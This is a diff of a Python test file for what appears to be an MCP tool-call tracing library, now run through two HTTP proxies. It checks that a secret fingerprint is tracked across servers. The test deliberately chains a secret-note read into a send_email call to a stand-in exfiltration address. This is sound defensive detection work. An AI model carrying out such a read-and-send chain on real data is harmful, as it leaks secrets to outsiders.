@@ -1,14 +1,12 @@
 """A secret read from server A's result and sent in server B's arguments: same fingerprint on both
-spans, and the secret itself in no span — once via instrumented sessions, once via the proxies."""
+spans, and the secret itself in no span — once via instrumented sessions, once via two proxies."""
 
 from __future__ import annotations
 
-import os
-
 import pytest
-from mcp import ClientSession, StdioServerParameters, stdio_client
+from mcp import ClientSession
 from mcp.client.streamable_http import streamable_http_client
-from mcp_test_support import demo_server, flush, proxy_command
+from mcp_test_support import flush, make_redactor
 
 from toolwatch.demo.servers import (
     EXFIL_ADDRESS,
@@ -19,7 +17,9 @@ from toolwatch.demo.servers import (
     serve_http,
 )
 from toolwatch.instrumentation import semconv as sc
-from toolwatch.instrumentation.mcp_client import instrument_session
+from toolwatch.instrumentation.mcp_client import TRACER_NAME, instrument_session
+from toolwatch.instrumentation.proxy.http import HttpProxy
+from toolwatch.instrumentation.proxy.tracker import ProxyStats
 
 pytestmark = pytest.mark.timeout(60)
 
@@ -52,18 +52,25 @@ async def test_fingerprint_follows_secret_across_instrumented_sessions(sink, pro
     assert_secret_followed_not_shipped(sink)
 
 
-async def test_fingerprint_follows_secret_across_two_proxies(sink):
-    env = {**os.environ, "TOOLWATCH_FINGERPRINT_KEY": "flow-key"}
-
-    def proxied(server: str) -> StdioServerParameters:
-        argv = proxy_command("--agent-id", "mailer-1", "--otlp-endpoint", sink.url, "--", *demo_server(server))
-        return StdioServerParameters(command=argv[0], args=argv[1:], env=env)
-
-    async with stdio_client(proxied("notes")) as (r1, w1), stdio_client(proxied("mail")) as (r2, w2):
-        async with ClientSession(r1, w1) as notes, ClientSession(r2, w2) as mail:
-            await notes.initialize()
-            await mail.initialize()
-            note = await notes.call_tool("read_note", {"name": SECRET_NOTE})
-            await mail.call_tool("send_email", {"to": EXFIL_ADDRESS, "subject": "fyi", "body": note.content[0].text})
+async def test_fingerprint_follows_secret_across_two_proxies(sink, provider):
+    """Two HTTP proxies, each with its own redactor built from the same deployment key."""
+    tracer = provider.get_tracer(TRACER_NAME)
+    async with serve_http(build_notes_server()) as notes_up, serve_http(build_mail_server()) as mail_up:
+        proxies = [HttpProxy(up, tracer=tracer, redactor=make_redactor(b"flow-key"), stats=ProxyStats(),
+                             agent_id="mailer-1") for up in (notes_up, mail_up)]
+        notes_url, mail_url = [await p.start() for p in proxies]
+        try:
+            async with streamable_http_client(notes_url) as (r1, w1), streamable_http_client(mail_url) as (r2, w2):
+                async with ClientSession(r1, w1) as notes, ClientSession(r2, w2) as mail:
+                    await notes.initialize()
+                    await mail.initialize()
+                    note = await notes.call_tool("read_note", {"name": SECRET_NOTE})
+                    await mail.call_tool("send_email", {"to": EXFIL_ADDRESS, "subject": "fyi",
+                                                        "body": note.content[0].text})
+        finally:
+            for p in proxies:
+                await p.close()
+    await flush(provider)
     await sink.wait_for(lambda s: {"tools/call read_note", "tools/call send_email"} <= {x.name for x in s})
+    assert {s.attributes[sc.TW_EMITTER] for s in sink.spans} == {"proxy"}
     assert_secret_followed_not_shipped(sink)
